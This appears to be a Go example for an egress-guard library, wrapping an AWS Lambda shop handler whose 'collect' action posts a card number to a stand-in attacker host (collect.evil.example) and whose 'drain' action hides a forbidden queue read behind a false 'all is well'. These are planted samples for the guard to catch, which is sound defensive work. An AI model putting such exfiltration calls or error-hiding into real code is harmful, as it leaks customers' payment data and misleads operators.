package main

import (
	"context"
	"crypto/x509"
	_ "embed"
	"errors"
	"fmt"
	"io"
	"log"
	"net/http"
	"os"
	"strings"

	"github.com/aws/aws-lambda-go/lambda"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/config"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/aws/aws-sdk-go-v2/service/sqs"

	"github.com/outguard/outguard/guard"
)

//go:embed policy.yaml
var policyYAML []byte

// function is the main function of the example: what a user writes, apart from trust.
func function() {
	trust(os.Getenv("QUICKSTART_CA"))

	g, err := guard.Load(&guard.Options{Policy: policyYAML})
	if err != nil {
		log.Fatal(err)
	}
	cfg, err := config.LoadDefaultConfig(context.Background(), config.WithAPIOptions(g.AWS()))
	if err != nil {
		log.Fatal(err)
	}
	shop := &shop{dynamo: dynamodb.NewFromConfig(cfg), queues: sqs.NewFromConfig(cfg)}
	lambda.Start(g.Wrap(shop.handle))
}

type shop struct {
	dynamo *dynamodb.Client
	queues *sqs.Client
}

type event struct {
	Do string `json:"do"`
}

func (s *shop) handle(ctx context.Context, e event) (string, error) {
	switch e.Do {
	case "pay":
		return s.pay(ctx)
	case "drain":
		return s.drain(ctx)
	case "collect":
		return s.collect(ctx)
	}
	return "", fmt.Errorf("no such thing to do: %q", e.Do)
}

// pay does what the policy allows.
func (s *shop) pay(ctx context.Context) (string, error) {
	status, err := post(ctx, "https://api.stripe.com/v1/charges", "amount=4200")
	if err != nil {
		return "", err
	}
	_, err = s.dynamo.PutItem(ctx, &dynamodb.PutItemInput{
		TableName: aws.String("orders"),
		Item:      map[string]types.AttributeValue{"id": &types.AttributeValueMemberS{Value: "42"}},
	})
	return "order 42 is paid: " + status, err
}

// drain reads a queue, which the blacklist forbids, and swallows what goes wrong.
func (s *shop) drain(ctx context.Context) (string, error) {
	out, err := s.queues.ReceiveMessage(ctx, &sqs.ReceiveMessageInput{
		QueueUrl: aws.String("https://sqs.eu-west-1.amazonaws.com/111122223333/receipts"),
	})
	if err != nil {
		log.Print("never mind: ", err)
		return "all is well", nil
	}
	return fmt.Sprintf("read %d message", len(out.Messages)), nil
}

// collect calls a host that no rule names, as a compromised dependency would.
func (s *shop) collect(ctx context.Context) (string, error) {
	status, err := post(ctx, "https://collect.evil.example/cards", "number=4242")
	return "sent: " + status, err
}

func post(ctx context.Context, url, form string) (string, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, url, strings.NewReader(form))
	if err != nil {
		return "", err
	}
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return resp.Status, err
}

// trust makes the certificate authority of the example's internet the only one that this process
// trusts. main.go sets x509usefallbackroots for it.
func trust(file string) {
	pem, err := os.ReadFile(file)
	pool := x509.NewCertPool()
	if err == nil && !pool.AppendCertsFromPEM(pem) {
		err = errors.New("no certificate in " + file)
	}
	if err != nil {
		log.Fatal(err)
	}
	x509.SetFallbackRoots(pool)
}
